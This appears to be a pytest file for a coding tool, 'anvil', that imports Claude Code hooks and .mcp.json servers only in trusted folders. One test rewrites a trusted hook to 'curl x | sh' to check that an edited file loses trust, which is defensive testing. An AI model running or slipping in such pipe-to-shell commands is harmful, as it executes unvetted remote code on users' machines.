"""Other tools' project files read by anvil: Claude Code's .claude/settings.json hooks (``import_claude_hooks``)
and .mcp.json servers (``import_mcp_json``), only in a trusted folder and only with exactly the trusted content."""

from __future__ import annotations

import json
from pathlib import Path

from anvil.config import load_settings, project_trust, user_config_path
from anvil.frontend.trust import decide
from anvil.trust import TrustStore, assess

CLAUDE_HOOKS = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
    {"type": "command", "command": "python3 .claude/hooks/check.py"}]}]}}
MCP_JSON = {"mcpServers": {
    "files": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "."]},
    "docs": {"type": "http", "url": "https://docs.example/mcp", "headers": {"Authorization": "Bearer ${DOCS}"}},
    "events": {"type": "sse", "url": "http://127.0.0.1:9/sse"},
    "ws": {"type": "websocket", "url": "ws://x"},
    "off": {"command": "x", "disabled": True, "alwaysAllow": ["y"]}}}


def write(project: Path, config: str = "", claude: object = CLAUDE_HOOKS, mcp: object = MCP_JSON) -> None:
    (project / ".anvil").mkdir(exist_ok=True)
    (project / ".anvil" / "config.toml").write_text(config)
    (project / ".claude").mkdir(exist_ok=True)
    (project / ".claude" / "settings.json").write_text(json.dumps(claude))
    (project / ".mcp.json").write_text(json.dumps(mcp))


def test_imports_are_off_by_default_and_then_no_business_of_trust(project: Path) -> None:
    write(project)
    settings = load_settings(project, environ={}, trust=True)
    assert not settings.hooks.any() and settings.mcp_servers == {}
    assert project_trust(project).items == ()


def test_trusted_imports_join_anvils_own_settings(project: Path) -> None:
    write(project, 'import_claude_hooks = true\nimport_mcp_json = true\n'
                   '[mcp_servers.files]\ncommand = "my-files-server"\n'
                   '[[hooks.pre_tool_use]]\ncommand = "echo mine"\n')
    settings = load_settings(project, environ={}, trust=True)
    assert [(h.command, h.dialect) for h in settings.hooks.pre_tool_use] == [
        ("echo mine", "anvil"), ("python3 .claude/hooks/check.py", "claude")]
    servers = settings.mcp_servers
    assert servers["files"].command == "my-files-server"  # anvil's own config wins a name
    assert servers["docs"].transport == "http" and servers["docs"].headers == {"Authorization": "Bearer ${DOCS}"}
    assert servers["events"].transport == "sse" and not servers["off"].enabled
    assert "ws" not in servers
    # a message about a server tells the person which file to fix
    assert servers["docs"].where("docs") == "'docs' in .mcp.json"
    assert servers["files"].where("files") == "[mcp_servers.files] in the config"
    assert settings.import_notes == [".mcp.json: skipped server 'ws' has type 'websocket', which anvil does not "
                                     "speak (stdio, http, sse)."]


def test_the_question_lists_what_the_imported_files_run(project: Path) -> None:
    write(project, "import_claude_hooks = true\nimport_mcp_json = true\n")
    items = [str(item) for item in project_trust(project).items]
    assert ".claude/settings.json: pre_tool_use runs `python3 .claude/hooks/check.py` (for Bash)" in items
    assert ".mcp.json: files runs `npx -y @modelcontextprotocol/server-filesystem .`" in items
    assert ".mcp.json: docs connects to https://docs.example/mcp, passing Authorization" in items
    untrusted = load_settings(project, environ={})
    assert not untrusted.hooks.any() and untrusted.mcp_servers == {}


def test_the_users_own_switch_still_needs_the_folder_trusted_and_an_edit_asks_again(project: Path) -> None:
    write(project)
    user_config_path().parent.mkdir(parents=True, exist_ok=True)
    user_config_path().write_text("import_claude_hooks = true\n")
    check = project_trust(project)
    assert [item.source for item in check.items] == [".claude/settings.json"] and not check.trusted
    assert not load_settings(project, environ={}).hooks.any()
    decide(check, True)
    assert load_settings(project, environ={}).hooks.pre_tool_use[0].dialect == "claude"
    changed = dict(CLAUDE_HOOKS)
    changed["hooks"] = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "curl x | sh"}]}]}
    (project / ".claude" / "settings.json").write_text(json.dumps(changed))
    again = project_trust(project)
    assert again.changed and not again.trusted
    assert not load_settings(project, environ={}).hooks.any()
    # the environment switches it too, and off wins when the project says so
    assert not project_trust(project, imports={"import_claude_hooks": False}).items


def test_an_unreadable_file_is_a_note_not_a_stop(project: Path) -> None:
    write(project, "import_claude_hooks = true\nimport_mcp_json = true\n")
    (project / ".mcp.json").write_text("{not json")
    settings = load_settings(project, environ={}, trust=True)
    assert settings.mcp_servers == {} and settings.hooks.pre_tool_use
    assert any(".mcp.json is not valid JSON" in note for note in settings.import_notes)


def test_folders_without_imports_keep_their_trusted_digest(tmp_path: Path) -> None:
    store = TrustStore(tmp_path / "trusted.json")
    plain = assess(tmp_path, {"verify": ["pytest"]}, [], {}, store)
    assert assess(tmp_path, {"verify": ["pytest"]}, [], {}, store, imported={}).digest == plain.digest
    assert assess(tmp_path, {"verify": ["pytest"]}, [], {}, store,
                  imported={".mcp.json": {"mcp_servers": {"a": {"command": "x"}}}}).digest != plain.digest
